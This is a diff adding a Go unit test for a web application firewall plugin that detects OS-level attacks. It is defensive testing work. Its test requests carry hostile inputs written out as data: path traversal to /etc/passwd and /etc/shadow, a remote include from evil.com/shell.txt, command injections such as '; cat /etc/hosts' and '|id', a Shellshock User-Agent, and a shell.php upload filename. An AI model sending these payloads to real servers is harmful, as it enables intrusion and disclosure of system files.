@@ -0,0 +1,156 @@
+package osattack
+
+import (
+	"bufio"
+	"bytes"
+	"context"
+	"mime/multipart"
+	"net/url"
+	"os"
+	"strings"
+	"testing"
+
+	"github.com/nzin/taxsi2/internal/com"
+	"github.com/nzin/taxsi2/internal/db"
+	"github.com/stretchr/testify/assert"
+	"gorm.io/gorm"
+)
+
+/*
+ * This is a mock implementation of the db.DbServiceOsattack interface
+ */
+type DbServiceOsattackMock struct {
+	config    map[string]string
+	listeners []db.DbChangeListener
+}
+
+func (m *DbServiceOsattackMock) SubscribeChanges(table int, listener db.DbChangeListener) {
+	m.listeners = append(m.listeners, listener)
+}
+func (m *DbServiceOsattackMock) GetConfigValueForKey(key string) (string, error) {
+	value, ok := m.config[key]
+	if !ok {
+		return "", gorm.ErrRecordNotFound
+	}
+	return value, nil
+}
+
+func readCorpus(t *testing.T, path string) []string {
+	f, err := os.Open(path)
+	assert.Nil(t, err)
+	defer f.Close()
+
+	lines := []string{}
+	scanner := bufio.NewScanner(f)
+	for scanner.Scan() {
+		line := scanner.Text()
+		if line == "" || strings.HasPrefix(line, "# ") {
+			continue
+		}
+		lines = append(lines, line)
+	}
+	assert.Nil(t, scanner.Err())
+	return lines
+}
+
+func request(rawurl string, headers map[string][]string, body string) *com.TaxsiCom {
+	u, _ := url.Parse(rawurl)
+	if headers == nil {
+		headers = map[string][]string{}
+	}
+	return &com.TaxsiCom{
+		Method:  "GET",
+		Url:     u,
+		Headers: headers,
+		Body:    []byte(body),
+	}
+}
+
+func TestCorpus(t *testing.T) {
+	plugin := newOsattackWafPlugin(&DbServiceOsattackMock{config: map[string]string{}})
+
+	t.Run("happy path: attacks are detected", func(t *testing.T) {
+		attacks := readCorpus(t, "testdata/attacks.txt")
+		assert.Greater(t, len(attacks), 50)
+		for _, a := range attacks {
+			m := plugin.Detect(request("http://www.example.com/?file="+url.QueryEscape(a), nil, ""))
+			assert.NotNil(t, m, "not detected: %s", a)
+		}
+	})
+
+	t.Run("happy path: benign inputs are not detected", func(t *testing.T) {
+		benign := readCorpus(t, "testdata/benign.txt")
+		assert.Greater(t, len(benign), 40)
+		for _, b := range benign {
+			m := plugin.Detect(request("http://www.example.com/?q="+url.QueryEscape(b), nil, ""))
+			assert.Nil(t, m, "false positive: %s (%v)", b, m)
+		}
+	})
+}
+
+func TestOsattackPlugin(t *testing.T) {
+	ds := &DbServiceOsattackMock{config: map[string]string{}}
+	plugin := newOsattackWafPlugin(ds)
+
+	check := func(t *testing.T, payload *com.TaxsiCom, kind string, location string) {
+		assert.False(t, plugin.Scan(context.Background(), payload))
+		assert.Equal(t, kind, payload.Variables[VARIABLE_KIND])
+		assert.Equal(t, location, payload.Variables[VARIABLE_LOCATION])
+		assert.NotEqual(t, "", payload.Variables[VARIABLE_SNIPPET])
+	}
+
+	t.Run("happy path: match locations", func(t *testing.T) {
+		check(t, request("http://www.example.com/static/..%2f..%2fetc/passwd", nil, ""), KIND_TRAVERSAL, "path")
+		check(t, request("http://www.example.com/?page=http://evil.com/shell.txt", nil, ""), KIND_RFI, "query:page")
+		check(t, request("http://www.example.com/", map[string][]string{
+			"Content-Type": {"application/json"},
+		}, `{"host": {"name": "127.0.0.1; cat /etc/hosts"}}`), KIND_LFI, "json:host.name")
+		check(t, request("http://www.example.com/", map[string][]string{
+			"Content-Type": {"application/x-www-form-urlencoded"},
+		}, `ip=127.0.0.1%7Cid`), KIND_CMDI, "form:ip")
+		check(t, request("http://www.example.com/", map[string][]string{
+			"Cookie": {"lang=../../../../etc/passwd"},
+		}, ""), KIND_TRAVERSAL, "cookie:lang")
+		check(t, request("http://www.example.com/cgi-bin/status", map[string][]string{
+			"User-Agent": {"() { :; }; /bin/bash -c 'id'"},
+		}, ""), KIND_CMDI, "header:User-Agent")
+
+		var body bytes.Buffer
+		w := multipart.NewWriter(&body)
+		part, _ := w.CreateFormFile("avatar", "../../var/www/shell.php")
+		part.Write([]byte("GIF89a"))
+		w.Close()
+		check(t, request("http://www.example.com/upload", map[string][]string{
+			"Content-Type": {w.FormDataContentType()},
+		}, body.String()), KIND_TRAVERSAL, "file:avatar")
+	})
+
+	t.Run("happy path: legit requests", func(t *testing.T) {
+		assert.True(t, plugin.Scan(context.Background(), request("http://www.example.com/docs/../index.html?next=https://www.example.com/home", map[string][]string{
+			"Referer": {"https://www.example.com/a|b"},
+		}, "")))
+	})
+
+	t.Run("happy path: per OS signature sets", func(t *testing.T) {
+		ds.config[CONFIG_OS] = OS_UNIX
+		for _, l := range ds.listeners {
+			l.NotifyDbChange(CONFIG_OS)
+		}
+		assert.True(t, plugin.Scan(context.Background(), request("http://www.example.com/?f="+url.QueryEscape(`c:\boot.ini`), nil, "")))
+		assert.True(t, plugin.Scan(context.Background(), request("http://www.example.com/?ip="+url.QueryEscape(`1 & ipconfig /all`), nil, "")))
+		assert.False(t, plugin.Scan(context.Background(), request("http://www.example.com/?f=/etc/shadow", nil, "")))
+
+		ds.config[CONFIG_OS] = OS_WINDOWS
+		for _, l := range ds.listeners {
+			l.NotifyDbChange(CONFIG_OS)
+		}
+		assert.False(t, plugin.Scan(context.Background(), request("http://www.example.com/?f="+url.QueryEscape(`c:\boot.ini`), nil, "")))
+		assert.True(t, plugin.Scan(context.Background(), request("http://www.example.com/?f=/etc/shadow", nil, "")))
+		assert.True(t, plugin.Scan(context.Background(), request("http://www.example.com/", map[string][]string{
+			"User-Agent": {"() { :; }; /bin/bash -c 'id'"},
+		}, "")))
+		// the traversal, the wrappers and the remote includes don't depend on the OS
+		assert.False(t, plugin.Scan(context.Background(), request("http://www.example.com/?f=../../etc/shadow", nil, "")))
+		assert.False(t, plugin.Scan(context.Background(), request("http://www.example.com/?f=php://input", nil, "")))
+	})
+}